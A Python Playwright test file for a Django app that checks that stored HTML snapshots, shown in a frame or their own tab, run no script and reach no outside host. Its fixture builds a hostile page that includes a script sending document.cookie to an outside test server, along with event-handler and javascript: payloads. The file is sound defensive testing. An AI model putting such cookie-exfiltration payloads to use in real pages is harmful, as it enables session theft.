"""A hostile page, looked at in a real browser: it runs nothing, reaches nothing and leads nowhere."""

from collections.abc import Iterator

import pytest
from django.test import Client
from playwright.sync_api import Browser, Page, expect

from articles.services.snapshots import keep_snapshot
from tests.factories import make_user
from tests.fetching.server import TestServer

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def page(chromium: Browser, live_server, client: Client) -> Iterator[Page]:
    """A viewer's. What the policy stops is told in its console, and here that is wanted."""
    client.force_login(make_user("vic", "viewer"))
    with chromium.new_context(base_url=live_server.url) as context:
        context.add_cookies(
            [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}]
        )
        yield context.new_page()


@pytest.fixture
def elsewhere() -> Iterator[TestServer]:
    """Where the page would like to send something: whatever is asked of it is seen."""
    with TestServer() as server:
        for path in ("/img.png", "/style.css", "/script.js", "/frame", "/refresh", "/form", "/link", "/font"):
            server.page(path, b"reached")
        yield server


def hostile(server: TestServer) -> bytes:
    at = server.url
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>Kept</title>
    <meta http-equiv="refresh" content="0; url={at("/refresh")}">
    <base href="{at("/")}"><link rel="stylesheet" href="{at("/style.css")}">
    <style>@font-face {{ font-family: f; src: url({at("/font")}) }} p {{ font-family: f; color: rgb(1, 2, 3) }}</style>
    <script src="{at("/script.js")}"></script>
    <script>document.title = "ran"; fetch("/api/v1/me/"); new Image().src = "{at("/img.png")}?" + document.cookie</script>
    </head><body onload="document.title = 'ran'">
    <p id="words">The dam holds.</p><img src="{at("/img.png")}" onerror="document.title = 'ran'">
    <iframe src="{at("/frame")}"></iframe><object data="{at("/frame")}"></object>
    <svg onload="document.title = 'ran'"><script>document.title = "ran"</script></svg>
    <a id="js" href="javascript:document.title='ran'">script</a>
    <a id="top" href="{at("/link")}" target="_top">top</a> <a id="blank" href="{at("/link")}" target="_blank">new</a>
    <form action="{at("/form")}" method="post"><input name="a" value="1"><button id="send">send</button></form>
    </body></html>""".encode()


def test_in_its_frame_a_page_can_do_nothing(page: Page, elsewhere: TestServer) -> None:
    snapshot = keep_snapshot(content=hostile(elsewhere), media_type="text/html", url="https://a.example/")
    page.goto(snapshot.get_absolute_url())
    frame = page.frame_locator(".snapshot-frame")
    page.locator(".snapshot-frame").scroll_into_view_if_needed()
    expect(frame.locator("#words")).to_have_text("The dam holds.")
    expect(frame.locator("#words")).to_have_css("color", "rgb(1, 2, 3)")
    for name in ("js", "top", "blank", "send"):
        frame.locator(f"#{name}").click()
    page.wait_for_timeout(1000)
    assert page.url.endswith(snapshot.get_absolute_url())
    assert len(page.context.pages) == 1
    assert page.title().startswith("Snapshot")
    assert elsewhere.requests == []


def test_in_its_own_tab_a_page_can_do_nothing_by_itself(page: Page, elsewhere: TestServer) -> None:
    snapshot = keep_snapshot(content=hostile(elsewhere), media_type="text/html", url="https://a.example/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{snapshot.get_absolute_url()}view/")
    expect(page.locator("#words")).to_have_text("The dam holds.")
    for name in ("js", "blank", "send"):
        page.locator(f"#{name}").click()
    page.wait_for_timeout(1000)
    assert page.title() == "Kept"
    assert page.url.endswith("/view/")
    assert len(page.context.pages) == 1
    assert elsewhere.requests == []
    assert [url for url in asked if "/api/" in url] == [], "it has no origin from which to ask us"
